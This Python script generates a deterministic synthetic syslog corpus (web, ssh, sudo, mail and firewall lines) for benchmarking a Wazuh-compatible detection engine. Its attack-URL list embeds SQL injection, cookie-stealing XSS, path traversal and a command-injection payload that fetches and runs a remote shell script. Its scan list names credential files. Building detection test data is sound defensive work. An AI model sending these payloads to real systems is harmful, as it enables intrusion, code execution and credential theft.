#!/usr/bin/env python3
"""gen_corpus.py: writes a realistic, deterministic syslog corpus for benchmarks.

The corpus looks like what a small fleet sends to a log collector: web
access logs (nginx/apache combined format, mostly through syslog, some as
plain access.log lines), sshd, sudo, su, cron, postfix, systemd and
iptables-style kernel firewall lines, with attacks mixed in as bursts: ssh
brute force and invalid-user sweeps, web scanners, SQL injection and XSS
probes, firewall port scans and SMTP AUTH guessing. The line formats are the
ones Wazuh's own decoders and rules are written for (see the *.ini test cases
of the Wazuh ruleset), so a Wazuh-compatible engine does real work on them.

Same arguments, same bytes: everything comes from one seeded PRNG and a fixed
start time. Python 3 standard library only.

Usage: gen_corpus.py [-n LINES] [--seed N] [-o FILE] [--rate N] [--stats]
"""

import argparse
import bisect
import datetime
import heapq
import itertools
import random
import sys

MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun",
          "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")

# ---- vocabulary -------------------------------------------------------------

USERS = ["alice", "bob", "carol", "dave", "erin", "frank", "deploy", "backup",
         "ansible", "jenkins"]
INVALID_USERS = ["admin", "test", "oracle", "ubuntu", "pi", "git", "postgres",
                 "ftpuser", "user", "guest", "support", "mysql", "hadoop",
                 "minecraft", "teamspeak", "nagios", "www", "student", "demo",
                 "dev", "server", "ts3", "elastic", "odoo", "centos"]
SUDO_COMMANDS = ["/usr/bin/systemctl restart nginx",
                 "/usr/bin/systemctl status postfix",
                 "/usr/bin/apt-get update",
                 "/usr/bin/apt-get -y upgrade",
                 "/usr/bin/tail -n 200 /var/log/syslog",
                 "/usr/bin/journalctl -u sshd --since today",
                 "/usr/sbin/iptables -L -n",
                 "/bin/cp /tmp/site.conf /etc/nginx/sites-available/site.conf",
                 "/usr/bin/docker ps",
                 "/bin/bash"]
CRON_JOBS = ["cd / && run-parts --report /etc/cron.hourly",
             "[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi",
             "/usr/local/bin/backup.sh >/dev/null 2>&1",
             "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
             "/usr/bin/certbot renew -q"]
WEB_PAGES = ["/", "/index.html", "/products/list", "/products/list?category_id=2",
             "/products/list?category_id=7&orderby=2", "/products/detail/12",
             "/products/detail/15", "/products/detail/31", "/cart", "/help/about",
             "/help/guide", "/contact", "/mypage/login", "/entry", "/shopping",
             "/news/2024/03/spring-sale", "/blog/", "/blog/how-we-roast",
             "/api/v1/products?page=2", "/sitemap.xml"]
WEB_ASSETS = ["/assets/css/style.css", "/assets/js/app.js", "/assets/js/vendor.js",
              "/assets/img/logo.png", "/assets/img/hero.jpg", "/favicon.ico",
              "/assets/fonts/NotoSans.woff2", "/robots.txt"]
USER_AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "curl/7.88.1",
]
SCANNER_UAS = ["Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
               "Mozilla/5.0 zgrab/0.x", "ZmEu", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
               "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"]
SCAN_PATHS = ["/.env", "/.git/config", "/wp-login.php", "/wp-admin/", "/phpmyadmin/",
              "/phpMyAdmin/scripts/setup.php", "/admin/config.php", "/server-status",
              "/.htaccess", "/config.php.bak", "/backup.zip", "/db.sql", "/.ssh/id_rsa",
              "/cgi-bin/test-cgi", "/xmlrpc.php", "/.DS_Store", "/actuator/env",
              "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/console/",
              "/solr/admin/info/system", "/owa/auth/logon.aspx", "/HNAP1/",
              "/boaform/admin/formLogin", "/.aws/credentials", "/manager/html",
              "/.svn/entries", "/db/config.php.swp", "/.history", "/jenkins/login"]
ATTACK_URLS = [  # SQL injection, XSS, traversal, command injection
    "/products/list?category_id=2%20UNION%20SELECT%20NULL,NULL,NULL--",
    "/products/list?category_id=2%20UNION%20ALL%20SELECT%20login_id,password,NULL%20FROM%20dtb_member--",
    "/products/list?category_id=-1%20union%20select%201,2,table_name%20from%20information_schema.tables--",
    "/products/list?category_id=1+union+select+null,null,null--",
    "/products/detail/1%20where%201=1",
    "/products/list?name=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
    "/contact?name=%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    "/products/list?name=%3Ciframe%20src=javascript:alert(1)%3E",
    "/assets/../../../../../../etc/passwd",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh?echo;id",
    "/index.php?cmd=wget%20http://198.51.100.99/x.sh%20-O-|sh",
    "/example/uploadify.php?src=http://example.php",
]
MAIL_DOMAINS = ["example.com", "example.net", "example.org", "mail.example.jp"]
CIPHERS = ["RSA SHA256:Xz3q0aWkPq8bQmLr2vF0sU7nE5tY1cH9gJ4dK6pM2oA",
           "ED25519 SHA256:9mQ2pL0kVx7tR3eYfWc1uN8bZs4Ha6jKdT5oGiE2yXw",
           "ECDSA SHA256:b7Yc1Jr0Qe8Tn4Vw2Lp6Ks9Hd3Fg5Mz0Ax1Cq7Ru2Eo"]


class Corpus:
    """Holds the PRNG, the simulated clock and the line formatters."""

    def __init__(self, seed, start, rate):
        self.rng = random.Random(seed)
        self.start = start
        self.rate = rate
        self.pid = 1000
        self.stats = {}
        self._ts_sec = None
        self._ts_syslog = ""
        self._ts_web = ""
        rng = self.rng
        # Address pools, fixed per seed: a few thousand visitors, a few
        # hundred attackers, an office network for the staff.
        self.visitors = [self._public_ip() for _ in range(4000)]
        self.attackers = [self._public_ip() for _ in range(400)]
        self.staff = ["10.20.%d.%d" % (rng.randint(0, 3), rng.randint(2, 250))
                      for _ in range(len(USERS))]
        self.servers = ["10.0.0.%d" % i for i in range(5, 15)]
        self.ssh_probers = self.attackers + self.visitors[:200]
        self.fw_sources = self.attackers + self.visitors[:500]

    def _public_ip(self):
        rng = self.rng
        while True:
            a = rng.randint(1, 223)
            if a in (10, 100, 127, 169, 172, 192):
                continue
            return "%d.%d.%d.%d" % (a, rng.randint(0, 255), rng.randint(0, 255),
                                    rng.randint(1, 254))

    def count(self, kind):
        self.stats[kind] = self.stats.get(kind, 0) + 1

    def next_pid(self):
        self.pid += self.rng.randint(1, 60)
        if self.pid > 4000000:
            self.pid = 1000
        return self.pid

    def _stamp(self, t):
        """Caches the formatted times; they change once a simulated second."""
        sec = int(t)
        if sec != self._ts_sec:
            d = self.start + datetime.timedelta(seconds=sec)
            self._ts_sec = sec
            self._ts_syslog = "%s %2d %02d:%02d:%02d" % (
                MONTHS[d.month - 1], d.day, d.hour, d.minute, d.second)
            self._ts_web = "%02d/%s/%d:%02d:%02d:%02d +0000" % (
                d.day, MONTHS[d.month - 1], d.year, d.hour, d.minute, d.second)

    def syslog(self, t, host, prog, msg, pid=None):
        """One line as rsyslog writes it: 'Mon DD HH:MM:SS host prog[pid]: msg'."""
        self._stamp(t)
        if pid is None:
            return "%s %s %s: %s" % (self._ts_syslog, host, prog, msg)
        return "%s %s %s[%d]: %s" % (self._ts_syslog, host, prog, pid, msg)

    def access(self, t, ip, method, url, status, size, ref, ua):
        """One line in nginx/apache 'combined' format."""
        self._stamp(t)
        return '%s - - [%s] "%s %s HTTP/1.1" %d %s "%s" "%s"' % (
            ip, self._ts_web, method, url, status, size, ref, ua)


# ---- sources ----------------------------------------------------------------
# Each source is a generator of (delay in seconds, kind, line-maker). The
# scheduler merges them by simulated time; bursts keep their own pace.

def web_hit(c, t, plain=None):
    rng = c.rng
    ip = rng.choice(c.visitors)
    ua = rng.choice(USER_AGENTS)
    r = rng.random()
    if r < 0.55:
        url, status = rng.choice(WEB_ASSETS), rng.choice((200, 200, 200, 304))
    else:
        url, status = rng.choice(WEB_PAGES), 200
    r = rng.random()
    if r < 0.035:
        status = 404
    elif r < 0.045:
        status = rng.choice((301, 302))
    elif r < 0.05:
        status = rng.choice((500, 502, 503, 499))
    method = "POST" if url in ("/mypage/login", "/contact", "/cart") and rng.random() < 0.3 else "GET"
    size = 0 if status in (304, 301, 302) else rng.randint(150, 60000)
    ref = rng.choice(("-", "https://shop.example.com/", "https://www.google.com/"))
    line = c.access(t, ip, method, url, status, size, ref, ua)
    if plain is None:
        plain = rng.random() < 0.2
    if plain:
        return line
    host, prog = rng.choice((("web01", "nginx"), ("web02", "nginx"), ("web03", "apache")))
    return c.syslog(t, host, prog, line)


def sshd_session(c):
    """A legitimate login: accepted, session opened, later closed."""
    rng = c.rng
    i = rng.randrange(len(USERS))
    user, ip = USERS[i], c.staff[i]
    host = rng.choice(("bastion", "web01", "db01"))
    pid, port = c.next_pid(), rng.randint(32768, 60999)
    how = "publickey" if rng.random() < 0.8 else "password"
    tail = " ssh2: " + rng.choice(CIPHERS) if how == "publickey" else " ssh2"
    yield 0, "sshd", lambda t: c.syslog(t, host, "sshd", "Accepted %s for %s from %s port %d%s" % (how, user, ip, port, tail), pid)
    yield 0.01, "sshd", lambda t: c.syslog(t, host, "sshd", "pam_unix(sshd:session): session opened for user %s(uid=%d) by (uid=0)" % (user, 1000 + i), pid)
    sess = rng.randint(100, 9999)
    yield 0.02, "systemd", lambda t: c.syslog(t, host, "systemd-logind", "New session %d of user %s." % (sess, user), 612)
    yield rng.uniform(30, 3600), "sshd", lambda t: c.syslog(t, host, "sshd", "Received disconnect from %s port %d:11: disconnected by user" % (ip, port), pid)
    yield 0, "sshd", lambda t: c.syslog(t, host, "sshd", "Disconnected from user %s %s port %d" % (user, ip, port), pid)
    yield 0.01, "sshd", lambda t: c.syslog(t, host, "sshd", "pam_unix(sshd:session): session closed for user %s" % user, pid)
    yield 0.02, "systemd", lambda t: c.syslog(t, host, "systemd-logind", "Session %d logged out. Waiting for processes to exit." % sess, 612)


def sshd_noise(c, t):
    """Internet background radiation: single probes from random addresses."""
    rng = c.rng
    ip, port, pid = rng.choice(c.ssh_probers), rng.randint(1024, 65000), c.next_pid()
    host = rng.choice(("bastion", "web01", "web02", "mail01"))
    r = rng.random()
    if r < 0.3:
        msg = "Connection closed by %s port %d [preauth]" % (ip, port)
    elif r < 0.5:
        msg = "Invalid user %s from %s port %d" % (rng.choice(INVALID_USERS), ip, port)
    elif r < 0.65:
        msg = "Failed password for root from %s port %d ssh2" % (ip, port)
    elif r < 0.75:
        msg = "Did not receive identification string from %s port %d" % (ip, port)
    elif r < 0.85:
        msg = "Connection closed by authenticating user root %s port %d [preauth]" % (ip, port)
    elif r < 0.9:
        msg = "Disconnected from invalid user %s %s port %d [preauth]" % (rng.choice(INVALID_USERS), ip, port)
    elif r < 0.95:
        msg = "fatal: Unable to negotiate with %s port %d: no matching key exchange method found. Their offer: diffie-hellman-group1-sha1 [preauth]" % (ip, port)
    else:
        msg = "error: kex_exchange_identification: Connection closed by remote host"
    return c.syslog(t, host, "sshd", msg, pid)


def sudo_line(c, t):
    rng = c.rng
    user = rng.choice(USERS[:6])
    host = rng.choice(("bastion", "web01", "web02", "db01", "mail01"))
    r = rng.random()
    if r < 0.9:
        return c.syslog(t, host, "sudo", "%8s : TTY=pts/%d ; PWD=/home/%s ; USER=root ; COMMAND=%s" % (
            user, rng.randint(0, 5), user, rng.choice(SUDO_COMMANDS)))
    if r < 0.96:
        return c.syslog(t, host, "sudo", "%8s : %d incorrect password attempt%s ; TTY=pts/%d ; PWD=/home/%s ; USER=root ; COMMAND=%s" % (
            user, 1 if r < 0.93 else 3, "" if r < 0.93 else "s", rng.randint(0, 5), user, rng.choice(SUDO_COMMANDS)))
    return c.syslog(t, host, "sudo", "%8s : user NOT in sudoers ; TTY=pts/%d ; PWD=/home/%s ; USER=root ; COMMAND=/bin/bash" % (
        "intern", rng.randint(0, 5), "intern"))


def sudo_pam(c, t):
    user = c.rng.choice(USERS[:6])
    return c.syslog(t, "bastion", "sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by %s(uid=%d)" % (
        user, 1000 + USERS.index(user)), c.next_pid())


def su_line(c, t):
    rng = c.rng
    user = rng.choice(USERS[:4])
    host = rng.choice(("bastion", "db01"))
    pid = c.next_pid()
    r = rng.random()
    if r < 0.4:
        return c.syslog(t, host, "su", "(to root) %s on pts/%d" % (user, rng.randint(0, 4)), pid)
    if r < 0.7:
        return c.syslog(t, host, "su", "pam_unix(su:session): session opened for user root(uid=0) by %s(uid=%d)" % (
            user, 1000 + USERS.index(user)), pid)
    if r < 0.8:
        return c.syslog(t, host, "su", "%s to root on /dev/pts/%d" % (user, rng.randint(0, 4)))
    if r < 0.9:
        return c.syslog(t, host, "su", "pam_unix(su:auth): authentication failure; logname=%s uid=%d euid=0 tty=/dev/pts/%d ruser=%s rhost=  user=root" % (
            user, 1000 + USERS.index(user), rng.randint(0, 4), user), pid)
    return c.syslog(t, host, "su", "FAILED SU (to root) %s on pts/%d" % (user, rng.randint(0, 4)), pid)


def cron_line(c, t):
    rng = c.rng
    host = rng.choice(("bastion", "web01", "web02", "web03", "db01", "mail01"))
    pid = c.next_pid()
    r = rng.random()
    if r < 0.4:
        return c.syslog(t, host, "CRON", "(root) CMD (%s)" % rng.choice(CRON_JOBS), pid)
    if r < 0.7:
        return c.syslog(t, host, "CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)", pid)
    return c.syslog(t, host, "CRON", "pam_unix(cron:session): session closed for user root", pid)


def queue_id(rng):
    return "".join(rng.choice("0123456789ABCDEF") for _ in range(10))


def postfix_line(c, t):
    rng = c.rng
    ip = rng.choice(c.visitors)
    qid = queue_id(rng)
    pid = c.next_pid()
    dom = rng.choice(MAIL_DOMAINS)
    r = rng.random()
    if r < 0.25:
        return c.syslog(t, "mail01", "postfix/smtpd", "connect from unknown[%s]" % ip, pid)
    if r < 0.45:
        return c.syslog(t, "mail01", "postfix/smtpd", "disconnect from unknown[%s] ehlo=1 mail=1 rcpt=1 data=1 quit=1 commands=5" % ip, pid)
    if r < 0.6:
        return c.syslog(t, "mail01", "postfix/qmgr", "%s: from=<noreply@%s>, size=%d, nrcpt=1 (queue active)" % (qid, dom, rng.randint(900, 90000)), 1234)
    if r < 0.72:
        return c.syslog(t, "mail01", "postfix/smtp", "%s: to=<%s@%s>, relay=mx.%s[%s]:25, delay=%.2f, delays=0.01/0/0.2/0.3, dsn=2.0.0, status=sent (250 2.0.0 Ok: queued as %s)" % (
            qid, rng.choice(USERS), dom, dom, rng.choice(c.visitors), rng.uniform(0.2, 3), queue_id(rng)), pid)
    if r < 0.8:
        return c.syslog(t, "mail01", "postfix/cleanup", "%s: message-id=<%s@%s>" % (qid, queue_id(rng).lower(), dom), pid)
    if r < 0.88:
        return c.syslog(t, "mail01", "postfix/smtpd", "NOQUEUE: reject: RCPT from unknown[%s]: 554 5.7.1 <%s@example.org>: Relay access denied; from=<spam@%s> to=<%s@example.org> proto=ESMTP helo=<WIN-%s>" % (
            ip, rng.choice(USERS), rng.choice(MAIL_DOMAINS), rng.choice(USERS), queue_id(rng)[:6]), pid)
    if r < 0.93:
        return c.syslog(t, "mail01", "postfix/smtpd", "NOQUEUE: reject: RCPT from unknown[%s]: 550 5.7.1 Service unavailable; client [%s] blocked using zen.spamhaus.org; from=<x@%s> to=<%s@example.org> proto=ESMTP helo=<%s>" % (
            ip, ip, rng.choice(MAIL_DOMAINS), rng.choice(USERS), ip), pid)
    if r < 0.97:
        return c.syslog(t, "mail01", "postfix/smtpd", "warning: unknown[%s]: SASL LOGIN authentication failed: UGFzc3dvcmQ6" % ip, pid)
    return c.syslog(t, "mail01", "postfix/smtpd", "lost connection after AUTH from unknown[%s]" % ip, pid)


def fw_line(c, t, src=None, dpt=None, action=None):
    """An iptables LOG line with a --log-prefix naming the action."""
    rng = c.rng
    src = src or rng.choice(c.fw_sources)
    dpt = dpt or rng.choice((22, 23, 25, 80, 443, 445, 3389, 8080, 3306, 5900, 1433, 6379))
    action = action or rng.choice(("DROP", "DROP", "DROP", "REJECT", "ACCEPT"))
    uptime = 86400 * 12 + t
    proto = "UDP" if dpt in (53, 123, 161, 1900) else "TCP"
    tail = ("WINDOW=1024 RES=0x00 SYN URGP=0" if proto == "TCP" else "LEN=%d" % rng.randint(20, 120))
    msg = "[%.6f] %s IN=eth0 OUT= MAC=52:54:00:9a:3c:11:52:54:00:12:35:02:08:00 SRC=%s DST=%s LEN=%d TOS=0x00 PREC=0x00 TTL=%d ID=%d PROTO=%s SPT=%d DPT=%d %s" % (
        uptime, action, src, rng.choice(c.servers), rng.choice((40, 44, 52, 60)), rng.randint(30, 250),
        rng.randint(1, 65535), proto, rng.randint(1024, 65535), dpt, tail)
    return c.syslog(t, "fw01", "kernel", msg)


def systemd_line(c, t):
    rng = c.rng
    host = rng.choice(("bastion", "web01", "web02", "db01", "mail01"))
    return c.syslog(t, host, "systemd", rng.choice((
        "Starting apt-daily.service - Daily apt download activities...",
        "Finished apt-daily.service - Daily apt download activities.",
        "Started session-%d.scope - Session %d of User %s." % (rng.randint(100, 999), rng.randint(100, 999), rng.choice(USERS)),
        "logrotate.service: Deactivated successfully.",
        "Reloading nginx.service - A high performance web server and a reverse proxy server...")), 1)


# Background mix: (weight, kind, maker). Weights are per mille.
BACKGROUND = [
    (480, "web", web_hit),
    (90, "sshd", sshd_noise),
    (25, "sudo", sudo_line),
    (10, "sudo", sudo_pam),
    (10, "su", su_line),
    (80, "cron", cron_line),
    (120, "postfix", postfix_line),
    (150, "firewall", fw_line),
    (25, "systemd", systemd_line),
]


# ---- attack bursts ----------------------------------------------------------

def burst_ssh_bruteforce(c):
    rng = c.rng
    ip, host = rng.choice(c.attackers), rng.choice(("bastion", "web01"))
    user = rng.choice(("root", "root", "admin", "ubuntu"))
    invalid = user != "root"
    for _ in range(rng.randint(8, 24)):
        pid, port = c.next_pid(), rng.randint(1024, 65000)
        msg = ("Failed password for invalid user %s from %s port %d ssh2" if invalid
               else "Failed password for %s from %s port %d ssh2") % (user, ip, port)
        yield rng.uniform(0.5, 4), "ssh-bruteforce", lambda t, m=msg, p=pid: c.syslog(t, host, "sshd", m, p)


def burst_ssh_sweep(c):
    rng = c.rng
    ip, host = rng.choice(c.attackers), rng.choice(("bastion", "web02", "mail01"))
    for _ in range(rng.randint(8, 20)):
        pid, port = c.next_pid(), rng.randint(1024, 65000)
        msg = "Invalid user %s from %s port %d" % (rng.choice(INVALID_USERS), ip, port)
        yield rng.uniform(0.5, 5), "ssh-sweep", lambda t, m=msg, p=pid: c.syslog(t, host, "sshd", m, p)


def burst_web_scan(c):
    rng = c.rng
    ip, ua = rng.choice(c.attackers), rng.choice(SCANNER_UAS)
    host = rng.choice(("web01", "web02"))
    paths = rng.sample(SCAN_PATHS, rng.randint(15, len(SCAN_PATHS)))
    for path in paths:
        status = 403 if path.startswith("/.") else 404
        yield rng.uniform(0.05, 2), "web-scan", lambda t, u=path, s=status: c.syslog(
            t, host, "nginx", c.access(t, ip, "GET", u, s, rng.randint(150, 600), "-", ua))


def burst_web_attack(c):
    rng = c.rng
    ip = rng.choice(c.attackers)
    ua = rng.choice(("sqlmap/1.7.2#stable (https://sqlmap.org)", USER_AGENTS[2], "curl/7.88.1"))
    for _ in range(rng.randint(4, 14)):
        url = rng.choice(ATTACK_URLS)
        status = rng.choice((200, 400, 403, 404, 500))
        yield rng.uniform(0.5, 6), "web-attack", lambda t, u=url, s=status: c.syslog(
            t, "web01", "nginx", c.access(t, ip, "GET", u, s, rng.randint(150, 9000), "-", ua))


def burst_port_scan(c):
    rng = c.rng
    ip = rng.choice(c.attackers)
    ports = rng.sample(range(1, 10000), rng.randint(20, 60))
    for p in ports:
        yield rng.uniform(0.01, 1.5), "port-scan", lambda t, d=p: fw_line(c, t, ip, d, "DROP")


def burst_smtp_auth(c):
    rng = c.rng
    ip = rng.choice(c.attackers)
    for _ in range(rng.randint(8, 20)):
        pid = c.next_pid()
        yield rng.uniform(1, 8), "smtp-auth", lambda t, p=pid: c.syslog(
            t, "mail01", "postfix/smtpd", "warning: unknown[%s]: SASL LOGIN authentication failed: UGFzc3dvcmQ6" % ip, p)


BURSTS = [(30, burst_ssh_bruteforce), (20, burst_ssh_sweep), (20, burst_web_scan),
          (10, burst_web_attack), (15, burst_port_scan), (5, burst_smtp_auth)]


def background(c):
    """The steady stream: Poisson arrivals at c.rate lines/s."""
    rng = c.rng
    weights = list(itertools.accumulate(w for w, _, _ in BACKGROUND))
    total = weights[-1]
    while True:
        # A logged-in staff session now and then: its lines come over time.
        if rng.random() < 0.004:
            yield 0, "spawn", sshd_session(c)
        _, kind, maker = BACKGROUND[bisect.bisect_right(weights, rng.random() * total)]
        yield rng.expovariate(c.rate), kind, lambda t, m=maker: m(c, t)


def attacks(c, mean_gap):
    """Starts a burst every mean_gap simulated seconds on average."""
    rng = c.rng
    weights = list(itertools.accumulate(w for w, _ in BURSTS))
    while True:
        i = bisect.bisect_right(weights, rng.random() * weights[-1])
        yield rng.expovariate(1.0 / mean_gap), "spawn", BURSTS[i][1](c)


def generate(c, n, mean_gap, out):
    """Merges all sources by simulated time and writes n lines to out."""
    heap = []
    seq = itertools.count()

    def push(t, src):
        try:
            delay, kind, item = next(src)
        except StopIteration:
            return
        heapq.heappush(heap, (t + delay, next(seq), kind, item, src))

    push(0.0, background(c))
    push(0.0, attacks(c, mean_gap))
    buf = []
    written = 0
    t = 0.0
    while written < n:
        t, _, kind, item, src = heapq.heappop(heap)
        if kind == "spawn":
            push(t, item)
        else:
            buf.append(item(t))
            c.count(kind)
            written += 1
            if len(buf) >= 4096:
                out.write("\n".join(buf))
                out.write("\n")
                buf.clear()
        push(t, src)
    if buf:
        out.write("\n".join(buf))
        out.write("\n")
    return t


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("-n", "--lines", type=int, default=1_000_000,
                    help="number of lines (default 1,000,000)")
    ap.add_argument("--seed", type=int, default=20240303, help="PRNG seed")
    ap.add_argument("-o", "--output", default="-", help="output file (default stdout)")
    ap.add_argument("--rate", type=float, default=60.0,
                    help="average background lines per simulated second (default 60)")
    ap.add_argument("--attack-gap", type=float, default=60.0,
                    help="average simulated seconds between attack bursts (default 60)")
    ap.add_argument("--start", default="2024-03-03T00:00:00",
                    help="simulated start time, ISO 8601 (default 2024-03-03T00:00:00)")
    ap.add_argument("--stats", action="store_true", help="print the mix to stderr")
    args = ap.parse_args()
    if args.lines < 0 or args.rate <= 0 or args.attack_gap <= 0:
        ap.error("--lines must be >= 0, --rate and --attack-gap > 0")

    c = Corpus(args.seed, datetime.datetime.fromisoformat(args.start), args.rate)
    if args.output == "-":
        end = generate(c, args.lines, args.attack_gap, sys.stdout)
        sys.stdout.flush()
    else:
        with open(args.output, "w", encoding="ascii", newline="\n") as f:
            end = generate(c, args.lines, args.attack_gap, f)
    if args.stats:
        print("%d lines over %.0f simulated seconds" % (args.lines, end if args.lines else 0),
              file=sys.stderr)
        for kind, k in sorted(c.stats.items(), key=lambda kv: -kv[1]):
            print("  %-15s %9d  %5.2f%%" % (kind, k, 100.0 * k / max(args.lines, 1)),
                  file=sys.stderr)


if __name__ == "__main__":
    main()
